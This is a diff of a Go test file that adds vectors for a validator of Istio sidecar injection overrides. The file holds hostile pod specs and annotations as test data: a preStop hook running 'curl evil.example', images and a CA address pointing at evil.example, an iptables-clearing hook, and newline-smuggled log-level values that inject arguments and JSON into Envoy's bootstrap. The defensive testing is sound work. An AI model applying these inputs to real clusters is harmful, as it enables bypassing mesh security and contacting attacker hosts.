@@ -23,6 +23,8 @@ func overrideVectors() []vector {
 		{name: "a proxy whose hook undoes the capture", istio: "pilot-agent has a subcommand for it", spec: "{containers: [{name: istio-proxy, image: auto, lifecycle: {postStart: {exec: {command: [pilot-agent, istio-clean-iptables]}}}}]}", code: "MV215"},
 		{name: "a proxy with a hook", istio: "runs as the proxy's user", spec: "{containers: [{name: istio-proxy, image: auto, lifecycle: {preStop: {exec: {command: [sh, -c, 'curl evil.example']}}}}]}", code: "MV215"},
 		{name: "a proxy with a probe", istio: "runs as the proxy's user", spec: "{containers: [{name: istio-proxy, image: auto, livenessProbe: {exec: {command: [sh]}}}]}", code: "MV215"},
+		{name: "a proxy in another directory", istio: "the paths of its roots, tokens and sockets are relative",
+			spec: "{volumes: [{name: mine, configMap: {name: mine}}], containers: [{name: istio-proxy, image: auto, workingDir: /mine, volumeMounts: [{name: mine, mountPath: /mine}]}]}", code: "MV215"},
 		{name: "a proxy without Envoy", istio: "the agent starts none", spec: "{containers: [{name: istio-proxy, image: auto, env: [{name: DISABLE_ENVOY, value: 'true'}]}]}", code: "MV214"},
 		{name: "a variable of a Secret", istio: "which may change", spec: "{containers: [{name: istio-proxy, image: auto, env: [{name: OTEL_SERVICE_NAME, valueFrom: {secretKeyRef: {name: mine, key: a}}}]}]}", code: "MV214"},
 		{name: "one of Istio's variables", istio: "the user's value wins", spec: "{containers: [{name: istio-proxy, image: auto, env: [{name: TRUST_DOMAIN, value: evil.example}]}]}", code: "MV214"},
@@ -37,6 +39,7 @@ func overrideVectors() []vector {
 		{"a configuration that expands", "env: [{name: PROXY_CONFIG, value: '{\"serviceCluster\":\"$(OTEL_SERVICE_NAME)\"}'}]", "MV213"},
 		{"another authority", "env: [{name: CA_ADDR, value: 'evil.example:15012'}]", "MV220"},
 		{"NET_ADMIN", "securityContext: {capabilities: {add: [NET_ADMIN]}}", "MV215"},
+		{"another directory", "workingDir: /mine", "MV215"},
 		{"a hook", "lifecycle: {postStart: {exec: {command: [pilot-agent, istio-clean-iptables]}}}", "MV215"},
 	} {
 		list = append(list, vector{name: "behind a forged status: " + c.name, istio: "merged, and not noted in " + overrides, annotations: forged,
@@ -47,6 +50,7 @@ func overrideVectors() []vector {
 		{"image of a sidecar that is not native", `{"containers":[{"name":"istio-proxy","image":"evil.example/img:1"}]}`, "MV217"},
 		{"image of istio-init", `{"initContainers":[{"name":"istio-init","image":"evil.example/img:1"}]}`, "MV217"},
 		{"command", `{"initContainers":[{"name":"istio-init","command":["true"]}]}`, "MV215"},
+		{"directory", `{"initContainers":[{"name":"istio-proxy","workingDir":"/mine"}]}`, "MV215"},
 		{"arguments", `{"initContainers":[{"name":"istio-init","args":["istio-iptables","--dry-run"]}]}`, "MV215"},
 		{"variable", `{"initContainers":[{"name":"istio-init","env":[{"name":"SKIP_RULE_APPLY","value":"true"}]}]}`, "MV214"},
 		{"user", `{"initContainers":[{"name":"istio-proxy","securityContext":{"runAsUser":0}}]}`, "MV215"},
@@ -93,6 +97,8 @@ func podSpecVectors() []vector {
 	return append(list,
 		vector{name: "a YAML document in the log level", istio: "the template does not quote it, so that a line break adds arguments",
 			annotations: annotated("sidecar.istio.io/logLevel", "info\n    - --templateFile=/mine"), code: "MV215", podOnly: true},
+		vector{name: "a domain in the log level", istio: "a line break adds an argument, which the agent writes into Envoy's bootstrap",
+			annotations: annotated("sidecar.istio.io/logLevel", "info\n    - '--domain=a\"},\"x\":{\"y\":\"b'"), code: "MV218", podOnly: true},
 		vector{name: "a host network in the log level", istio: "a line break adds fields of the pod",
 			annotations: annotated("sidecar.istio.io/agentLogLevel", "info\n  hostNetwork: true\n  x:\n    y:\n    -"), code: "MV205", podOnly: true},
 	)
@@ -116,6 +122,7 @@ func podSpecTwins() []vector {
 		{name: "a UDP port, with a warning", spec: "{containers: [{name: aside, image: registry.example/aside:1, ports: [{containerPort: 53, protocol: UDP}]}]}"},
 		{name: "a host port", spec: "{containers: [{name: aside, image: registry.example/aside:1, ports: [{containerPort: 9000, hostPort: 9000}]}]}"},
 		{name: "probes", spec: "{containers: [{name: app, readinessProbe: {httpGet: {path: /, port: 8080}}, livenessProbe: {tcpSocket: {port: 8080}}, startupProbe: {exec: {command: [a]}}}]}"},
+		{name: "hooks", spec: "{containers: [{name: app, lifecycle: {preStop: {httpGet: {path: /, port: 8080}}, postStart: {exec: {command: [a]}}}}]}"},
 		{name: "resources of the proxy", spec: "{containers: [{name: istio-proxy, image: auto, resources: {limits: {memory: 300Mi}}}]}"},
 		{name: "a proxy that waits", spec: "{containers: [{name: istio-proxy, image: auto, lifecycle: {preStop: {exec: {command: [sleep, '5']}}}}]}"},
 		{name: "a proxy with a harmless variable", spec: "{containers: [{name: istio-proxy, image: auto, env: [{name: MINIMUM_DRAIN_DURATION, value: 10s}]}]}"},
@@ -138,6 +145,10 @@ func annotationTwins() []vector {
 		{name: "files of the user's in a list, as Istio's documentation has it", annotations: map[string]string{
 			"sidecar.istio.io/userVolume":      `[{"name":"mine","emptyDir":{"medium":"Memory"}}]`,
 			"sidecar.istio.io/userVolumeMount": `[{"name":"mine","mountPath":"/etc/istio-certs/"}]`,
+		}},
+		{name: "what is counted", annotations: map[string]string{
+			"sidecar.istio.io/statsInclusionPrefixes": "cluster.outbound,http.{pod_ip}_", "sidecar.istio.io/statsInclusionRegexps": `a\.b."c"`,
+			"sidecar.istio.io/extraStatTags": "team,tier", proxyConfigAnnotation: `{serviceCluster: web.prod, proxyStatsMatcher: {inclusionRegexps: ['a\.b'], inclusionSuffixes: [rbac.allowed]}}`,
 		}},
 		{name: "Datadog", annotations: annotated("apm.datadoghq.com/env", `{"DD_ENV":"prod","DD_SERVICE":"web"}`)},
 		{name: "Prometheus", annotations: map[string]string{"prometheus.io/scrape": "true", "prometheus.io/port": "8080", "prometheus.istio.io/merge-metrics": "false"}},
